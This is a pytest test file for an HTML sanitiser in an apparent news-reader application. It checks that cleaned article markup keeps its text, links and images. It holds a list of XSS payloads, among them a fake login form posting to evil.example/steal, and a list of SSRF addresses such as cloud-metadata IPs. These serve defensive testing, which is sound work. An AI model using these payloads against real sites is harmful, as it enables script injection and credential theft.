"""The sanitiser (SECURITY.md, “The sanitiser”): what articles keep, idempotence, text, counts."""

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.ingest.clean import (
    ALLOWED_TAGS,
    clean,
    count_words,
    html_to_text,
    plain_text,
    reading_minutes,
)
from tests.mozilla_corpus import extracted, page_names

BASE = "https://news.example.org/2024/09/article.html"


def elements(html: str):
    fragment = lxml.html.fragment_fromstring(html, create_parent="div")
    return list(fragment.iterdescendants())


def assert_inert(html: str) -> None:
    """Nothing in the HTML can run, load a document, submit, restyle or drive htmx."""
    for element in elements(html):
        assert element.tag in ALLOWED_TAGS, element.tag
        for name, value in element.attrib.items():
            assert not name.startswith(("on", "hx-", "data-")), name
            assert name not in ("style", "class", "id", "formaction", "action", "srcdoc"), name
            if name in ("href", "src"):
                assert value.startswith(("https://", "http://", "mailto:")), value
            if name == "srcset":
                assert all(u.split()[0].startswith("http") for u in value.split(",")), value


# SECURITY.md, “The sanitiser”: each payload, and what must remain of the harmless text near it.
ATTACKS = [
    ("<p>before</p><script>alert(1)</script><p>after</p>", "before after"),
    ("<img src=x onerror=alert(1)><p>text</p>", "text"),
    ("<body onload=alert(1)><p>loaded</p></body>", "loaded"),
    ('<svg onload="alert(1)"><circle r="1"/></svg><p>svg</p>', "svg"),
    ("<svg><script>alert(1)</script></svg><p>svg script</p>", "svg script"),
    ('<a href="javascript:alert(1)">link</a>', "link"),
    ('<a href="JaVaScRiPt:alert(1)">case</a>', "case"),
    ('<a href="&#106;&#97;&#118;&#97;script:alert(1)">entities</a>', "entities"),
    ('<a href="&#x6A;avascript&colon;alert(1)">hex entities</a>', "hex entities"),
    ('<a href="  java\tscr\nipt:alert(1)">whitespace</a>', "whitespace"),
    ('<a href="\x01javascript:alert(1)">control</a>', "control"),
    ('<a href="vbscript:msgbox(1)">vb</a>', "vb"),
    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a>', "data"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b64</a>', "b64"),
    ('<iframe src="https://evil.example/"></iframe><p>frame</p>', "frame"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe><p>srcdoc</p>', "srcdoc"),
    ('<object data="evil.swf"><param name=x value=y></object><p>object</p>', "object"),
    ('<embed src="evil.swf"><p>embed</p>', "embed"),
    (
        '<form action="https://evil.example/steal"><p>Session expired</p>'
        '<input type="password" name="pw"><button type="submit">Log in</button></form>',
        "Session expired",
    ),
    ('<button formaction="https://evil.example/">go</button><p>formaction</p>', "formaction"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>meta</p>', "meta"),
    ('<base href="https://evil.example/"><p>base</p>', "base"),
    ('<link rel="stylesheet" href="https://evil.example/x.css"><p>link</p>', "link"),
    ('<style>@import "https://evil.example/x.css";</style><p>style</p>', "style"),
    (
        '<div style="position:fixed;inset:0;background:white">Session expired, log in:</div>',
        "Session expired, log in:",
    ),
    ('<div hx-post="/articles/1/delete/" hx-trigger="load">htmx</div>', "htmx"),
    ('<div data-hx-get="/admin/" data-hx-trigger="load">data htmx</div>', "data htmx"),
    ('<button hx-on:click="alert(1)">htmx on</button><p hx-on::load="x()">kept</p>', "kept"),
    ('<p class="button primary" id="logout" data-x="1">hooks</p>', "hooks"),
    ("<p>nul\x00 and \x01\x02\x1b controls</p>", "nul and controls"),
]


@pytest.mark.parametrize(("payload", "text"), ATTACKS, ids=[a[0][:40] for a in ATTACKS])
def test_clean_makes_each_attack_inert_and_keeps_the_text(payload, text):
    cleaned = clean(payload, BASE)
    assert_inert(cleaned)
    assert " ".join(html_to_text(cleaned).split()) == text
    for word in ("alert", "evil", "script", "\x00", "\x01"):
        assert word not in cleaned.replace("svg script", "")


def test_clean_keeps_the_markup_of_an_article():
    html = """
        <h2>Heading</h2><p>A <em>paragraph</em> with <strong>bold</strong>,
        <a href="/other">a link</a> and <code>code</code>.</p>
        <ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>
        <blockquote><p>A quote.</p></blockquote><pre><code>x = 1\n  y = 2</code></pre>
        <figure><img src="/a.jpg" alt="A picture" width="640" height="480">
        <figcaption>The caption</figcaption></figure>
        <table><thead><tr><th colspan="2">Head</th></tr></thead>
        <tbody><tr><td rowspan="2">a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>"""
    cleaned = clean(html, BASE)
    assert_inert(cleaned)
    for kept in (
        "<h2>Heading</h2>",
        "<em>paragraph</em>",
        "<strong>bold</strong>",
        '<a href="https://news.example.org/other" rel="noopener noreferrer">a link</a>',
        "<ul><li>one</li><li>two</li></ul>",
        '<ol start="3">',
        "<blockquote>",
        "<pre><code>x = 1\n  y = 2</code></pre>",
        '<img src="https://news.example.org/a.jpg" alt="A picture" width="640" height="480">',
        "<figcaption>The caption</figcaption>",
        '<th colspan="2">Head</th>',
        '<td rowspan="2">a</td>',
    ):
        assert kept in cleaned


def test_relative_urls_become_absolute_against_the_page():
    cleaned = clean(
        '<a href="../up">up</a><a href="//cdn.example.net/x">cdn</a><img src="pic.png"'
        ' srcset="pic-2x.png 2x, /pic-3x.png 3x">',
        BASE,
    )
    assert 'href="https://news.example.org/2024/up"' in cleaned
    assert 'href="https://cdn.example.net/x"' in cleaned
    assert 'src="https://news.example.org/2024/09/pic.png"' in cleaned
    assert (
        'srcset="https://news.example.org/2024/09/pic-2x.png 2x, '
        'https://news.example.org/pic-3x.png 3x"' in cleaned
    )


def test_without_a_page_address_relative_urls_are_dropped():
    # They would otherwise point at newsreader itself.
    cleaned = clean('<a href="/admin/">admin</a><img src="/articles/1/delete/"><p>x</p>')
    assert cleaned == "admin<p>x</p>"


def test_lazy_images_get_their_real_source():
    cleaned = clean(
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="/real.jpg" alt="lazy">'
        '<img data-srcset="/w480.jpg 480w, /w960.jpg 960w" alt="srcset only">'
        '<img data-original="/original.png">'
        '<img class="lazy" data-lazy-src="https://img.example/lazy.webp">'
        '<img data-whatever="/guessed/photo.jpeg">',
        BASE,
    )
    assert [dict(img.attrib) for img in elements(cleaned)] == [
        {"src": "https://news.example.org/real.jpg", "alt": "lazy"},
        {
            "src": "https://news.example.org/w480.jpg",
            "srcset": (
                "https://news.example.org/w480.jpg 480w, https://news.example.org/w960.jpg 960w"
            ),
            "alt": "srcset only",
        },
        {"src": "https://news.example.org/original.png"},
        {"src": "https://img.example/lazy.webp"},
        {"src": "https://news.example.org/guessed/photo.jpeg"},
    ]


def test_picture_sources_become_the_image_srcset_when_every_browser_can_show_them():
    cleaned = clean(
        '<picture><source type="image/avif" srcset="/a.avif"><source srcset="/a-2x.jpg 2x">'
        '<img src="/a.jpg" alt="a"></picture>',
        BASE,
    )
    assert [dict(img.attrib) for img in elements(cleaned)] == [
        {
            "src": "https://news.example.org/a.jpg",
            "alt": "a",
            "srcset": "https://news.example.org/a-2x.jpg 2x",
        }
    ]


def test_noscript_fallback_replaces_the_image_before_it():
    cleaned = clean(
        '<figure><img src="data:image/gif;base64,R0lGOD=" class="js-lazy">'
        '<noscript><img src="/full.jpg" alt="Full"></noscript></figure>'
        '<p><span><img src="/blurred-preview.jpg"></span><img class="no-source-yet">'
        '<noscript><img src="/sharp.jpg"></noscript></p>'
        "<noscript><p>Please enable JavaScript</p></noscript>",
        BASE,
    )
    assert cleaned == (
        '<figure><img src="https://news.example.org/full.jpg" alt="Full"></figure>'
        '<p><img src="https://news.example.org/sharp.jpg"></p>'
    )


def test_hidden_content_and_tracking_pixels_are_dropped():
    cleaned = clean(
        '<p>seen</p><p hidden>unseen</p><div style="display: none">gone</div>'
        '<img src="https://t.example/pixel.gif" width="1" height="1">',
        BASE,
    )
    assert cleaned == "<p>seen</p>"


def test_control_characters_inside_urls_are_removed():
    cleaned = clean('<a href="https://exa\x00mple.org/a\x07b">x</a><img src="/i\x01.png">', BASE)
    assert 'href="https://example.org/ab"' in cleaned
    assert 'src="https://news.example.org/i.png"' in cleaned


def test_links_get_rel_noopener_noreferrer_and_mailto_survives():
    cleaned = clean('<a href="mailto:editor@example.org" target="_blank">write</a>')
    assert cleaned == '<a href="mailto:editor@example.org" rel="noopener noreferrer">write</a>'


@pytest.mark.parametrize("html", ["", "   ", "\x00\x01", "<!-- only a comment -->"])
def test_clean_of_nothing_is_empty(html):
    assert clean(html) == ""


def test_clean_is_idempotent_on_tricky_markup():
    html = (
        "<p>a<p>b<div>c</div><table><tr><td>cell<p>in cell</table>"
        "<ul><li>x<li>y</ul><b><i>mis</b>nested</i><a href=x><a href=y>nested</a></a>"
        "<pre>\n\nleading newlines</pre><p>&nbsp;&amp;&lt;&gt;&quot;é</p><br/><br>"
    )
    once = clean(html, BASE)
    assert clean(once, BASE) == once


HTML_PIECES = st.sampled_from(
    [
        "<p>", "</p>", "<div>", "</div>", "<a href='/x?a=1&b=2'>", "</a>", "<b>", "</b>",
        "<i>", "</i>", "<table>", "<tr>", "<td>", "</td>", "</table>", "<ul>", "<li>",
        "</ul>", "<pre>", "</pre>", "<br>", "<img src=/i.png>", "<figure>", "<figcaption>",
        "</figure>", "<h2>", "</h2>", "<script>", "</script>", "<noscript>", "</noscript>",
        "<span style=x>", "</span>", "text", " ", "\n", "&amp;", "&nbsp;", "<", ">", "é",
        "<blockquote>", "</blockquote>", "<code>", "</code>", "<select><option>o",
    ]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(HTML_PIECES, max_size=30).map("".join))
def test_clean_is_idempotent_on_generated_markup(html):
    once = clean(html, BASE)
    assert clean(once, BASE) == once


@pytest.mark.parametrize("page", page_names())
def test_stored_article_html_is_a_fixed_point_of_clean(page):
    article = extracted(page)
    if article is None:
        pytest.skip("no article on this page")
    assert clean(article.content_html, "http://fakehost/test/page.html") == article.content_html
    assert_inert(article.content_html)


def test_html_to_text_separates_paragraphs_with_blank_lines():
    html = (
        "<h2>Title</h2><p>One   two\nthree.</p><p>Line<br>break</p><ul><li>a</li><li>b</li></ul>"
        "<p>x<br><br>y</p><table><tr><td>c1</td><td>c2</td></tr></table>"
    )
    assert (
        html_to_text(html) == "Title\n\nOne two three.\n\nLine\nbreak\n\na\n\nb\n\nx\n\ny\n\nc1 c2"
    )


def test_words_are_counted_in_spaced_and_cjk_scripts():
    assert count_words("") == 0
    assert count_words("The quick  brown\nfox.") == 4
    assert count_words("日本語の文章") == 6
    assert count_words("Python は 楽しい") == 5


@pytest.mark.parametrize(
    ("words", "minutes"), [(0, 0), (1, 1), (114, 1), (230, 1), (345, 2), (2300, 10)]
)
def test_reading_time_is_about_230_words_a_minute_and_at_least_one(words, minutes):
    assert reading_minutes(words) == minutes


def test_plain_text_is_one_line_without_controls_and_capped():
    assert plain_text("  A\x00 title\n\twith\x1b controls  ") == "A title with controls"
    assert plain_text("Fish &amp; Chips") == "Fish & Chips"  # encoded twice in the page
    capped = plain_text("word " * 200, 50)
    assert len(capped) == 50 and capped.endswith("…")
    assert plain_text('"><script>alert(1)</script>') == '"><script>alert(1)</script>'


# SECURITY.md, “The sanitiser”: the reader's browser is never sent to an address the fetcher
# would refuse, so images there are dropped when the page is saved.
PRIVATE_IMAGES = [
    "http://127.0.0.1:8000/admin/",
    "http://localhost/x.png",
    "http://printer.localhost/x.png",
    "http://[::1]/x.png",
    "http://10.0.0.1/x.png",
    "http://192.168.1.1/cgi-bin/reboot",
    "http://169.254.169.254/latest/meta-data/",
    "http://100.64.0.1/x.png",
    "http://0.0.0.0/x.png",
    "http://2130706433/x.png",
    "http://0x7f.1/x.png",
    "http://[::ffff:192.168.0.1]/x.png",
    "http://[fd00::1]/x.png",
]


@pytest.mark.parametrize("src", PRIVATE_IMAGES)
def test_images_on_private_addresses_are_dropped(src):
    html = (
        f'<p>text</p><img src="{src}" alt="a"><img srcset="{src} 1x, https://cdn.example/b.png 2x">'
    )
    cleaned = clean(html, BASE)
    assert src not in cleaned and "alt=" not in cleaned
    assert cleaned.count("<img") == 1 and 'srcset="https://cdn.example/b.png 2x"' in cleaned
    assert 'src="https://cdn.example/b.png"' in cleaned
    assert clean(cleaned) == cleaned


def test_images_on_public_addresses_and_allowed_intranets_stay(settings):
    html = '<img src="https://93.184.215.14/a.png"><img src="http://wiki.corp/b.png">'
    assert clean(html).count("<img") == 2
    settings.FETCH_ALLOWED_PRIVATE = ["10.1.0.0/16"]
    assert "<img" in clean('<img src="http://10.1.2.3/c.png">')
    assert "<img" not in clean('<img src="http://10.2.0.1/c.png">')
